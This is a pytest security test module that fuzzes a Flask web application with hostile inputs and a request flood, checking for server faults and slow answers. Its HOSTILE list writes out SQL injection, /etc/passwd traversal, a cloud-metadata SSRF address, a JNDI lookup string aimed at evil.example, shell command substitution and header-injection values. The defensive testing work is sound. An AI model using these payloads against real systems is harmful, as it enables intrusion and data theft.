"""Whatever is sent, wherever: a sentence within two seconds, and never a fault of ours.

Threats T8 and T11 (requests), R26 and R27. The generator is seeded: a failure can be
repeated.
"""

import random
from collections.abc import Iterator
from contextlib import suppress
from http.client import HTTPConnection
from statistics import median
from threading import Event
from threading import Thread
from time import perf_counter
from urllib.parse import quote

import pytest
from flask import Flask
from flask.testing import FlaskClient
from waitress import create_server
from werkzeug.test import TestResponse

from tests.people import cookie_of
from tests.people import signed_in
from tests.security.applications import loaded_app
from tests.security.forms import hidden
from tests.security.hostile import FORMULAS
from tests.security.hostile import SCRIPTS
from tests.security.naive import naive_app
from tests.security.test_t10_scripts import pages_of
from visimal.cli.serving import limits
from visimal.identity.permissions import Role

SEED = 20261122
#: How long an answer to anything may take, in seconds.
PATIENCE = 2.0

HOSTILE = (
    *SCRIPTS[:8],
    *FORMULAS[:6],
    "' OR 1=1 --",
    "'; DROP TABLE person; --",
    '" UNION SELECT password FROM person --',
    "1; SELECT pg_sleep(9)",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd\x00.png",
    "file:///etc/passwd",
    "http://169.254.169.254/latest/meta-data",
    "//evil.example/",
    "\\\\evil.example\\share",
    "%s%s%s%n",
    "{0.__class__.__mro__}",
    "{{ config }}",
    "${jndi:ldap://evil.example/a}",
    "$(sleep 9)",
    "`sleep 9`",
    "\r\nSet-Cookie: x=1",
    "\x00",
    "\x07\x1b[31m",
    "\u202egnp.exe",
    "\u200b\ufeff",
    "\ud800",
    "\U0001f4a3" * 40,
    "A" * 3000,
    "9" * 400,
    "-1",
    "0",
    "9223372036854775807",
    "9223372036854775808",
    "99999999999999999999999999",
    "1e309",
    "NaN",
    "-Infinity",
    "sNaN",
    "0x10",
    "\u0661\u0662",
    "null",
    "undefined",
    "[]",
    "{}",
    "true",
    "(" * 200,
    "a" * 30 + "!",
    "2026-02-30",
    "12.50",
    "1,234",
)
_HEADERS = (
    "Accept-Language",
    "User-Agent",
    "Referer",
    "Origin",
    "X-Forwarded-For",
    "Cookie",
    "If-None-Match",
    "If-Modified-Since",
    "Range",
    "Accept",
    "Content-Type",
    "Sec-Fetch-Site",
    "Authorization",
)
_PARAMETERS = ("by", "period", "partner", "scope", "key", "measure", "lang", "next")


@pytest.fixture(scope="module")
def app(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Flask]:
    for app in loaded_app(tmp_path_factory, "hostile"):
        app.config["PROPAGATE_EXCEPTIONS"] = False
        yield app


@pytest.fixture
def reader(app: Flask) -> FlaskClient:
    return signed_in(app, Role.PROJECT_LEADER)


def faults(answers: Iterator[tuple[str, TestResponse, float]]) -> list[str]:
    """What was answered by a fault, or too late."""
    return [
        f"{what}: {answer.status_code} after {seconds:.1f} s"
        for what, answer, seconds in answers
        if answer.status_code >= 500 or seconds > PATIENCE
    ]


def timed(
    client: FlaskClient, address: str, **given: object
) -> tuple[str, TestResponse, float]:
    """One request, and how long its answer took."""
    began = perf_counter()
    answer = client.open(address, buffered=True, **given)  # type: ignore[arg-type]  # of every kind
    return f"{address[:80]!r} {str(given)[:160]}", answer, perf_counter() - began


def quoted(text: str) -> str:
    """A text in an address, half characters too."""
    return quote(text.encode("utf-8", "surrogatepass"))


def sendable(text: str) -> str:
    """A header as a server can receive one: bytes, without line ends."""
    raw = text.replace("\r", "").replace("\n", "").replace("\x00", "")
    return raw.encode("utf-8", "replace").decode("latin-1")


def asked(
    client: FlaskClient, pages: list[str], count: int
) -> Iterator[tuple[str, TestResponse, float]]:
    """So many requests with something hostile in one place of each."""
    chance = random.Random(SEED)  # noqa: S311 - to be repeated, not to be secret
    for number in range(count):
        text, page = HOSTILE[number % len(HOSTILE)], chance.choice(pages)
        match chance.randrange(4):
            case 0:
                name = chance.choice((*_PARAMETERS, text))
                asked_for = f"{quoted(name)}={quoted(text)}"
                yield timed(client, page, query_string=asked_for)
            case 1:
                yield timed(client, f"{page.rstrip('/')}/{quoted(text)}")
            case 2:
                header = chance.choice(_HEADERS)
                yield timed(client, page, headers={header: sendable(text)})
            case _:
                parts = page.split("/")
                parts[chance.randrange(1, len(parts))] = quoted(text)
                yield timed(client, "/".join(parts))


def test_no_text_in_an_address_or_a_header_is_a_fault(
    app: Flask, reader: FlaskClient
) -> None:
    assert faults(asked(reader, pages_of(app), 600)) == []


def test_no_number_in_an_address_is_a_fault(app: Flask, reader: FlaskClient) -> None:
    numbers = ("0", "9223372036854775808", "9" * 40, "00000000001")
    addresses = {
        rule.replace("<int:", "<").replace(f"<{name}>", number)
        for rule, name in _numbered(app)
        for number in numbers
    }
    assert len(addresses) > 10
    assert faults(timed(reader, one) for one in sorted(addresses)) == []


def _numbered(app: Flask) -> Iterator[tuple[str, str]]:
    for rule in app.url_map.iter_rules():
        if "GET" in (rule.methods or set()) and "<int:" in rule.rule:
            address = rule.rule
            names = sorted(rule.arguments)
            for name in names[1:]:
                address = address.replace(f"<int:{name}>", "1")
            yield address, names[0]


def test_no_text_in_a_cookie_is_a_fault(app: Flask) -> None:
    def all_of_them() -> Iterator[tuple[str, TestResponse, float]]:
        name, _ = cookie_of(app, Role.PROJECT_LEADER)
        for text in HOSTILE:
            value = sendable(text)[:2000]
            cookie = (
                f"{name}={value}; visimal_language={value}; visimal_project={value}"
            )
            yield timed(app.test_client(), "/", headers={"Cookie": cookie})

    assert faults(all_of_them()) == []


def test_no_text_in_a_form_is_a_fault(app: Flask, reader: FlaskClient) -> None:
    def all_of_them() -> Iterator[tuple[str, TestResponse, float]]:
        page = "/privacy/retention"
        fields = hidden(reader, page, page)
        for text in HOSTILE:
            one = text.encode("utf-8", "replace").decode()
            for name in ("until", "hold", "reason", "once", "stored", "csrf_token"):
                data = {**fields, "reason": "because", name: one}
                yield timed(reader, page, method="POST", data=data)
        for text in HOSTILE:
            one = text.encode("utf-8", "replace").decode()
            visitor = app.test_client()
            kept = hidden(visitor, "/account/login", "/account/login")
            data = {**kept, "email": one, "password": one}
            yield timed(visitor, "/account/login", method="POST", data=data)

    assert faults(all_of_them()) == []


def test_a_naive_application_bites() -> None:
    naive = naive_app()
    naive.add_url_rule("/reports/<int:n>", "n", lambda n: str(int.to_bytes(n, 8)))
    client = naive.test_client()
    assert faults(timed(client, one) for one in ("/broken", f"/reports/{'9' * 40}"))


def test_others_keep_their_speed_while_somebody_floods(app: Flask) -> None:
    settings = app.config["VISIMAL"]
    server = create_server(app, host="127.0.0.1", port=0, **limits(settings))

    def run() -> None:
        with suppress(OSError):  # closed from beside, at the end
            server.run()

    thread = Thread(target=run)
    thread.start()
    name, value = cookie_of(app, Role.PROJECT_LEADER)
    port, over = server.effective_port, Event()
    floods = [Thread(target=_flood, args=(port, over)) for _ in range(4)]
    try:
        calm = [_seconds(port, f"{name}={value}") for _ in range(9)]
        for flood in floods:
            flood.start()
        busy = [_seconds(port, f"{name}={value}") for _ in range(25)]
    finally:
        over.set()
        for flood in floods:
            flood.join()
        server.close()
        thread.join(timeout=5)
    assert max(busy) < PATIENCE
    # Four greedy visitors cost a reader no more than some waiting in the same queue.
    assert median(busy) < max(0.5, 12 * median(calm))


def _seconds(port: int, cookie: str) -> float:
    began = perf_counter()
    connection = HTTPConnection("127.0.0.1", port, timeout=10)
    connection.request("GET", "/partners", headers={"Cookie": cookie})
    answer = connection.getresponse()
    assert answer.status == 200
    answer.read()
    connection.close()
    return perf_counter() - began


def _flood(port: int, over: Event) -> None:
    """Large forms, long addresses and many headers, as fast as they are taken."""
    large = b"x=" + b"x" * 2_000_000
    while not over.is_set():
        connection = HTTPConnection("127.0.0.1", port, timeout=10)
        try:
            connection.request("POST", "/account/login", body=large)
            connection.getresponse().read()
            connection.request("GET", "/?" + "x" * 5000)
            connection.getresponse().read()
        except OSError:
            pass
        finally:
            connection.close()
